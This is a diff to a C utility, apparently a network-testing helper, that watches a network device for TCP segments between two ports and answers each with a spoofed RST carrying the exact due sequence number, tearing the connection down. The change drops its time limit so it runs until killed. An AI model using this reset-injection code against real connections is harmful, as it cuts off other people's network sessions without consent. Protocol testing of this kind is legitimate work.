@@ -2,37 +2,25 @@
 /*
  * rst: somebody on the wire who ends a TCP connection.
  *
- *	rst NETDEV PORT-A PORT-B SECONDS
+ *	rst NETDEV PORT-A PORT-B
  *
  * Watches the netdev for segments between the two ports, and answers each one
  * that acknowledges something with a RST to its sender, which says to be from the
- * receiver and has just the sequence number that is due (RFC 5961 3.2). Ends with
- * status 0 when one of the ends sent a RST of its own or the connection is
- * silent for 200 ms after the first shot, 1 if time is up.
+ * receiver and has just the sequence number that is due (RFC 5961 3.2); if more has
+ * come meanwhile it misses. Goes on until it is killed.
  */
 #include <arpa/inet.h>
-#include <errno.h>
 #include <net/if.h>
 #include <netinet/ip.h>
 #include <netinet/tcp.h>
 #include <linux/if_ether.h>
 #include <linux/if_packet.h>
-#include <poll.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/socket.h>
-#include <time.h>
 #include <unistd.h>
-
-static uint64_t now_ms(void)
-{
-	struct timespec ts;
-
-	clock_gettime(CLOCK_MONOTONIC, &ts);
-	return ts.tv_sec * 1000ULL + ts.tv_nsec / 1000000;
-}
 
 static uint32_t add(uint32_t sum, const void *data, size_t len)
 {
@@ -70,35 +58,28 @@ static void shoot(int raw, const struct iphdr *ip, const struct tcphdr *tcp)
 int main(int argc, char **argv)
 {
 	struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL) };
-	uint64_t end, quiet = 0;
 	uint16_t a, b;
 	int in, raw;
 
-	if (argc != 5) {
-		fprintf(stderr, "rst NETDEV PORT-A PORT-B SECONDS\n");
+	if (argc != 4) {
+		fprintf(stderr, "rst NETDEV PORT-A PORT-B\n");
 		return 2;
 	}
 	ll.sll_ifindex = if_nametoindex(argv[1]);
 	a = htons(atoi(argv[2]));
 	b = htons(atoi(argv[3]));
-	end = now_ms() + atof(argv[4]) * 1000;
 	in = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
 	raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
 	if (in < 0 || raw < 0 || bind(in, (struct sockaddr *)&ll, sizeof(ll))) {
 		perror("rst");
 		return 2;
 	}
-	while (now_ms() < end) {
-		struct pollfd pfd = { .fd = in, .events = POLLIN };
+	for (;;) {
 		uint8_t buf[256];
 		struct iphdr *ip = (struct iphdr *)buf;
 		struct tcphdr *tcp;
 		ssize_t n;
 
-		if (quiet && now_ms() > quiet + 200)
-			return 0;
-		if (poll(&pfd, 1, 50) <= 0)
-			continue;
 		n = recv(in, buf, sizeof(buf), 0);
 		if (n < (ssize_t)sizeof(*ip) || ip->version != 4 || ip->protocol != IPPROTO_TCP ||
 		    n < (ssize_t)(ip->ihl * 4 + sizeof(*tcp)))
@@ -109,7 +90,5 @@ int main(int argc, char **argv)
 		if (tcp->rst || !tcp->ack || tcp->syn)
 			continue;
 		shoot(raw, ip, tcp);
-		quiet = now_ms();
 	}
-	return 1;
 }
